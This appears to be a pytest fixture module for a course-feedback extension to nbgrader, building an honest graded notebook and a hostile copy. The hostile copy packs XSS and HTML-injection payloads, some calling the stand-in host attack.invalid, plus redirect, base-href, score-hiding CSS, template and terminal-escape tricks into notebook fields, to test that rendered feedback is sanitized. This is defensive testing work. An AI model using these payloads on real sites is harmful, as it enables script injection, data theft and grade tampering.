"""A graded submission as the feedback room meets it, in an honest and in a hostile variant."""

import base64
import json
import os
import socket
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import numpy as np
import pytest
from nbformat import NotebookNode, v4
from nbgrader import api
from nbgrader.converters import GenerateFeedback
from nbgrader.coursedir import CourseDirectory
from traitlets.config import Config

from kireji.feedback import pictures
from kireji.feedback.view import Grade, Gradebook
from kireji.nbgrader_plugins.feedback_templates import configure
from tests.support.needs import browser, require

if TYPE_CHECKING:
    from playwright.sync_api import Browser

SOURCE = "je ne parle pas bien anglais . </s>".split()
TARGET = "i don't speak english well . </s>".split()
LINKS = [0, 1, 2, 5, 4, 6, 7]  # the source word that each target word comes from


def attention(sharpness: float, links: list[int], seed: int = 0) -> np.ndarray:
    """A made-up map (T_tgt, T_src) that looks at `links`, each row summing to 1."""
    scores = np.random.default_rng(seed).normal(0, 0.6, (len(TARGET), len(SOURCE)))
    scores[np.arange(len(TARGET)), links] += sharpness
    weights = np.exp(scores)
    return weights / weights.sum(1, keepdims=True)


def image(png: bytes, caption: str) -> dict:
    return {"caption": caption, "png": base64.b64encode(png).decode("ascii")}


def hidden(
    title: str,
    fraction: float = 1.0,
    weight: float = 1.0,
    message: str = "",
    status: str = "",
    images: tuple = (),
) -> dict:
    """One test of the report."""
    status = status or ("passed" if fraction == 1 else "partly" if fraction else "failed")
    return {
        "name": title.lower().replace(" ", "_"),
        "title": title,
        "status": status,
        "fraction": fraction,
        "weight": weight,
        "message": message,
        "images": list(images),
    }


def marks(grade_id: str, grade: bool, solution: bool, points: float | None = None) -> dict:
    """nbgrader's metadata of a cell."""
    locked = not solution
    kept = {
        "schema_version": 3,
        "grade_id": grade_id,
        "grade": grade,
        "solution": solution,
        "locked": locked,
        "task": False,
    }
    return {"nbgrader": kept if points is None else {**kept, "points": points}}


def answer(task: str, source: str, outputs: tuple = ()) -> NotebookNode:
    return v4.new_code_cell(
        source, metadata=marks(f"{task}_solution", False, True), outputs=list(outputs)
    )


def graded(task: str, points: float, outputs: tuple = ()) -> NotebookNode:
    return v4.new_code_cell(
        "# hidden tests look here", metadata=marks(task, True, False, points), outputs=list(outputs)
    )


def written(task: str, points: float, source: str) -> NotebookNode:
    return v4.new_markdown_cell(source, metadata=marks(task, True, True, points))


def figure() -> bytes:
    """A picture as a student's notebook would draw it."""
    steps = np.arange(60)
    return pictures.line_chart(
        {
            "train": (steps, 4 * np.exp(-steps / 18) + 1),
            "validation": (steps, 3.6 * np.exp(-steps / 22) + 1.5),
        },
        "Loss while training",
        "step (x 100)",
        "loss per token",
    )


PADDING = '''def padding_mask(lengths: torch.Tensor, max_length: int) -> torch.Tensor:
    """True where a token is real.

    lengths (B,)   Returns mask (B, max_length)."""
    positions = torch.arange(max_length)            # (max_length,)
    return positions[None, :] < lengths[:, None]    # (B, max_length)
'''

ADDITIVE = """class AdditiveAttention(nn.Module):
    def __init__(self, query_size, key_size, hidden_size):
        super().__init__()
        self.W_query = nn.Linear(query_size, hidden_size, bias=False)
        self.W_key = nn.Linear(key_size, hidden_size, bias=False)
        self.v = nn.Linear(hidden_size, 1, bias=False)

    def forward(self, query, key, value, mask=None):
        mixed = torch.tanh(self.W_query(query).unsqueeze(2) + self.W_key(key).unsqueeze(1))
        scores = self.v(mixed).squeeze(-1)
        weights = scores.softmax(-1)
        if mask is not None:
            weights = weights * mask.unsqueeze(1)  # padding off
        return weights @ value, weights
"""


@pytest.fixture
def honest() -> tuple[NotebookNode, Gradebook]:
    """A notebook with typical mistakes, its report, and the gradebook's numbers for it."""
    yours, reference = attention(2.6, [0, 1, 2, 3, 4, 6, 7], 1), attention(5, LINKS, 2)
    comparison = image(
        pictures.attention_comparison(yours, reference, SOURCE, TARGET),
        "\u201cje ne parle pas bien anglais .\u201d: rows are the words your model wrote",
    )
    second = image(
        pictures.attention_comparison(
            attention(4.5, LINKS, 3), attention(5, LINKS, 4), SOURCE, TARGET
        ),
        "The same sentence from a model of the course",
    )
    mask = np.arange(6)[None] < np.array([2, 4, 6])[:, None]
    cells = {
        "padding_mask": (
            4,
            [
                hidden("Real tokens are True, padding is False"),
                hidden("Works for a single sentence", weight=0.5),
            ],
        ),
        "additive_attention": (
            14,
            [
                hidden("The context is the weighted mean of the values", weight=2),
                hidden("A masked key gets exactly zero weight", weight=2),
                hidden(
                    "Every row of weights sums to one",
                    0,
                    2,
                    "With padding in the batch, rows sum to 0.61 on average instead of 1.\nIs the"
                    " mask applied after the softmax? Set masked scores to -inf before it.",
                    images=[
                        image(
                            pictures.tensor_comparison(
                                attention(1, LINKS)[:3, :6].round(2),
                                mask,
                                "Weights of the smallest failing batch",
                            ),
                            "The smallest batch that fails: lengths 2, 4 and 6",
                        )
                    ],
                ),
                hidden("The input is left unchanged"),
            ],
        ),
        "encoder": (
            12,
            [
                hidden("Padding changes nothing"),
                hidden("Shapes are (B, T_src, 2 * hidden_size) and (B, hidden_size)"),
            ],
        ),
        "decoder": (
            16,
            [
                hidden("One step agrees with the reference", weight=3),
                hidden(
                    "The context reaches the logits",
                    0,
                    2,
                    "RuntimeError on line 14: mat1 and mat2 shapes cannot be multiplied (5x48 and"
                    " 32x96)",
                    "error",
                ),
                hidden(
                    "No state is kept between calls",
                    0,
                    1,
                    "The answer took longer than 10 s.",
                    "timeout",
                ),
            ],
        ),
        "sequence_loss": (6, [hidden("Only real tokens count")]),
        "train_step": (8, [hidden("The loss goes down"), hidden("Gradients are clipped")]),
        "decoding": (
            12,
            [
                hidden("Greedy decoding stops at the end token"),
                hidden(
                    "Beam search is never worse than greedy",
                    0,
                    1,
                    "beam_decode is not defined. Was the cell removed, or does an earlier cell"
                    " fail?",
                    "missing",
                ),
            ],
        ),
        "translation": (
            16,
            [
                hidden(
                    "BLEU on held-out sentences",
                    0.74,
                    3,
                    "BLEU 30.5 on 200 sentences that nobody trained on.",
                    images=[image(pictures.metric(30.5, 23.4, 33, "BLEU"), "")],
                ),
                hidden(
                    "chrF on held-out sentences",
                    1,
                    1,
                    "chrF 48.9.",
                    images=[image(pictures.metric(48.9, 38, 47, "chrF"), "")],
                ),
            ],
        ),
        "alignment": (
            6,
            [
                hidden(
                    "Names and numbers look at themselves",
                    0.8,
                    1,
                    "16 of 20 words.",
                    images=[comparison, second],
                )
            ],
        ),
    }
    sources = {"padding_mask": PADDING, "additive_attention": ADDITIVE}
    figures = v4.new_output(
        "display_data",
        data={
            "image/png": base64.b64encode(figure()).decode("ascii"),
            "text/plain": "<Figure size 640x480>",
        },
    )
    notebook = v4.new_notebook(
        cells=[
            v4.new_markdown_cell(
                "# A translation model that looks back\nWhy one vector is not enough."
            )
        ]
    )
    report, grades = [], {}
    for task, (points, tests) in cells.items():
        outputs = (
            [
                v4.new_output(
                    "stream", name="stdout", text="epoch 12  loss 1.42\nvalidation BLEU 30.1\n"
                ),
                figures,
            ]
            if task == "train_step"
            else []
        )
        notebook.cells += [
            v4.new_markdown_cell(f"## {task}"),
            answer(
                task, sources.get(task, f"def {task}(*arguments):\n    return arguments\n"), outputs
            ),
            graded(task, points),
        ]
        earned = round(
            points
            * sum(test["fraction"] * test["weight"] for test in tests)
            / sum(test["weight"] for test in tests),
            2,
        )
        report.append({"grade_id": task, "score": earned, "max_score": points, "tests": tests})
        grades[task] = Grade(earned, points, auto_score=earned)
    notebook.cells.append(
        written(
            "failure_analysis",
            6,
            "The model writes *the the* for **rare** names.\n\n- its attention is flat there\n- so"
            " the context is a mean of everything\n\nSee [the"
            " paper](https://arxiv.org/abs/1409.0473).",
        )
    )
    report.append({"grade_id": "failure_analysis", "score": None, "max_score": 6, "tests": []})
    grades["failure_analysis"] = Grade(0, 6, waiting=True)
    notebook.metadata["kireji"] = {
        "assignment": "ex1_translation",
        "score": sum(cell["score"] or 0 for cell in report),
        "max_score": 94,
        "seconds": {"start": 1.0},
        "cells": report,
        "notices": [
            "Left out at intake: notes.txt (only the notebook and *.safetensors are graded)."
        ],
    }
    score = sum(grade.score for grade in grades.values())
    comments = {"additive_attention_solution": "Clean code. Look at *where* the mask goes."}
    return notebook, Gradebook(score, 100, 0, grades, comments)


SCRIPT = (
    "<script>document.documentElement.dataset.owned='yes';fetch('http://attack.invalid/')</script>"
)
STYLE = "<style>.score,.points,.kj-points,input{display:none!important}body{opacity:0}</style>"
HOSTILE = "\n\n".join(
    [
        SCRIPT,
        STYLE,
        "<img src=x onerror=\"document.documentElement.dataset.owned='yes'\">",
        "![x](http://attack.invalid/pixel.png)",
        "[click](javascript:document.documentElement.dataset.owned='yes')",
        "<svg onload=\"document.documentElement.dataset.owned='yes'\"></svg>",
        (
            '<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1'
            ' onerror=alert(1)&gt;"></mglyph></math>'
        ),
        '<iframe srcdoc="' + SCRIPT.replace('"', "&quot;") + '"></iframe>',
        "<form action=http://attack.invalid><input name=a><button>b</button></form>",
        "<a href='data:text/html," + SCRIPT.replace("'", "") + "'>d</a>",
        "<div style='position:fixed;inset:0;background:white'>100 / 100</div>",
        "</section></main></body>" + SCRIPT,
        "<p id=additive_attention class=score>x</p>",
        "<link rel=stylesheet href=http://attack.invalid/a.css>",
        "<meta http-equiv=refresh content='0;url=http://attack.invalid/'>",
        "<base href=http://attack.invalid/>",
        "$\\href{javascript:alert(1)}{x}$",
        "{{ 7 * 7 }} {% include 'page.html' %}",
    ]
)


@pytest.fixture
def hostile(honest: tuple[NotebookNode, Gradebook]) -> tuple[NotebookNode, Gradebook]:
    """The same submission with attacks on its readers, in every place a student or their
    kernel can write to."""
    notebook, gradebook = honest
    attack = SCRIPT + STYLE
    outputs = [
        NotebookNode(
            output_type="display_data",
            data={"text/html": attack, "text/plain": attack},
            metadata={},
        ),
        NotebookNode(
            output_type="execute_result",
            execution_count=1,
            data={
                "application/javascript": "document.documentElement.dataset.owned='yes'",
                "text/latex": attack,
            },
            metadata={},
        ),
        NotebookNode(
            output_type="display_data",
            data={
                "image/svg+xml": f"<svg>{attack}</svg>",
                "application/vnd.jupyter.widget-view+json": {"model_id": attack},
            },
            metadata={},
        ),
        NotebookNode(
            output_type="display_data",
            data={"image/png": base64.b64encode(figure()).decode("ascii")},
            metadata={
                "image/png": {
                    "width": "1 onerror=document.documentElement.dataset.owned='yes' src=x",
                    "alt": attack,
                }
            },
        ),
        NotebookNode(
            output_type="display_data",
            data={
                "image/png": '"><img src=x onerror="document.documentElement.dataset.owned=1">',
                "text/markdown": attack,
            },
            metadata={},
        ),
        NotebookNode(
            output_type="stream", name=attack, text=f"\x1b]0;owned\x07\x1b[8m{attack}\u202e"
        ),
        NotebookNode(
            output_type="error",
            ename=attack,
            evalue=attack,
            traceback=[attack, "\x1b[31m" + attack],
        ),
    ]
    for cell in notebook.cells:
        if cell.cell_type == "code":
            cell.metadata["tags"] = [
                "\"><script>document.documentElement.dataset.owned='yes'</script>"
            ]
            if cell.metadata.nbgrader.solution:
                cell.source = f"'''{attack}</pre></code>'''\n# {attack}\n" + cell.source
                cell.outputs = outputs
        elif cell.metadata.get("nbgrader"):
            cell.source = HOSTILE
            cell["attachments"] = {"x.png": {"image/svg+xml": attack}}
    notebook.cells.insert(3, v4.new_markdown_cell(HOSTILE, id="extra"))
    notebook.cells.insert(3, v4.new_raw_cell(attack, metadata={"raw_mimetype": "text/html"}))
    notebook.metadata["title"] = attack
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": attack}}
    notebook.metadata["language_info"] = {"name": attack, "pygments_lexer": attack}
    for record in notebook.metadata["kireji"]["cells"]:
        for test in record["tests"]:
            test["message"] += attack
            test["title"] += attack
            for picture in test["images"]:
                picture["caption"] = '" onerror="document.documentElement.dataset.owned=1' + attack
    notebook.metadata["kireji"]["notices"].append(attack)
    return notebook, gradebook


class Course:
    """A course folder with a gradebook of its own, in which one student's graded submission
    lies."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.database = f"sqlite:///{root / 'gradebook.db'}"
        (root / "nbgrader_config.py").write_text(
            "from kireji.nbgrader_plugins.feedback_templates import configure\nc ="
            f" get_config()\nc.CourseDirectory.root = {str(root)!r}\nc.CourseDirectory.course_id ="
            " 'kireji'\nconfigure(c)\n"
        )

    def record(self, notebook: NotebookNode, entries: Gradebook) -> None:
        """Write the graded notebook, and its scores and comments into the gradebook."""
        folder = self.root / "autograded" / "ada" / "ex1_translation"
        folder.mkdir(parents=True)
        (folder / "ex1_translation.ipynb").write_text(json.dumps(notebook))
        with api.Gradebook(self.database) as gradebook:
            gradebook.add_student("ada")
            gradebook.add_assignment("ex1_translation")
            gradebook.add_notebook("ex1_translation", "ex1_translation")
            place = ("ex1_translation", "ex1_translation")
            for cell in notebook.cells:
                marked = cell.metadata.get("nbgrader", {})
                if marked.get("grade"):
                    gradebook.add_grade_cell(
                        marked["grade_id"],
                        *place,
                        max_score=marked["points"],
                        cell_type=cell.cell_type,
                    )
                if marked.get("solution"):
                    gradebook.add_solution_cell(marked["grade_id"], *place)
            gradebook.add_submission("ex1_translation", "ada")
            for name, entry in entries.grades.items():
                grade = gradebook.find_grade(name, *place, "ada")
                grade.auto_score, grade.manual_score = entry.auto_score, entry.manual_score
                grade.extra_credit, grade.needs_manual_grade = entry.extra_credit, entry.waiting
            for name, text in entries.comments.items():
                gradebook.find_comment(name, *place, "ada").manual_comment = text
            gradebook.db.commit()
            self.submission = gradebook.find_submission_notebook(*place, "ada").id

    def feedback(self, command: bool = False) -> str:
        """What nbgrader's GenerateFeedback writes: in this process, or by its `command`."""
        if command:
            subprocess.run(
                [sys.executable, "-m", "nbgrader", "generate_feedback", "ex1_translation"],
                cwd=self.root,
                check=True,
                capture_output=True,
                text=True,
                timeout=120,
            )
        else:
            c = Config()
            configure(c)
            folder = CourseDirectory(root=str(self.root), assignment_id="ex1_translation", config=c)
            GenerateFeedback(coursedir=folder, config=c).start()
        return (
            self.root / "feedback" / "ada" / "ex1_translation" / "ex1_translation.html"
        ).read_text()


@pytest.fixture
def course(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Course:
    # nbgrader starts `alembic` by name.
    monkeypatch.setenv("PATH", str(Path(sys.executable).parent), prepend=os.pathsep)
    return Course(tmp_path)


@pytest.fixture
def formgrader(course, hostile) -> Iterator[str]:
    """The address of the page of a hostile submission, in a running server with nbgrader's
    formgrader."""
    notebook, entries = hostile
    course.record(notebook, entries)
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    settings = course.root / "server_config.py"
    settings.write_text(
        "c = get_config()\nc.ServerApp.jpserver_extensions ="
        " {'kireji.hub.course_service_extension': True,"
        " 'nbgrader.server_extensions.formgrader': True}\nc.ServerApp.root_dir ="
        f" {str(course.root)!r}\nc.IdentityProvider.token = ''\nc.ServerApp.port ="
        f" {port}\nc.ServerApp.open_browser = False\nc.ServerApp.allow_root = True\n"
    )
    log = (course.root / "server.log").open("w")
    server = subprocess.Popen(
        [sys.executable, "-m", "jupyter_server", f"--config={settings}"],
        cwd=course.root,
        stdout=log,
        stderr=log,
    )
    try:
        deadline = time.monotonic() + 240  # two seconds where no other program runs
        while True:
            try:
                urllib.request.urlopen(f"http://127.0.0.1:{port}/api", timeout=60).close()
                break
            except OSError:
                assert server.poll() is None, (course.root / "server.log").read_text()
                assert time.monotonic() < deadline, (course.root / "server.log").read_text()
                time.sleep(0.25)
        yield f"http://127.0.0.1:{port}/formgrader/submissions/{course.submission}/"
    finally:
        server.terminate()
        server.wait(20)
        log.close()


@pytest.fixture(scope="module")
def chromium() -> Iterator["Browser"]:
    """A real browser."""
    require("browser")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        opened = playwright.chromium.launch(executable_path=browser(), args=["--no-sandbox"])
        yield opened
        opened.close()
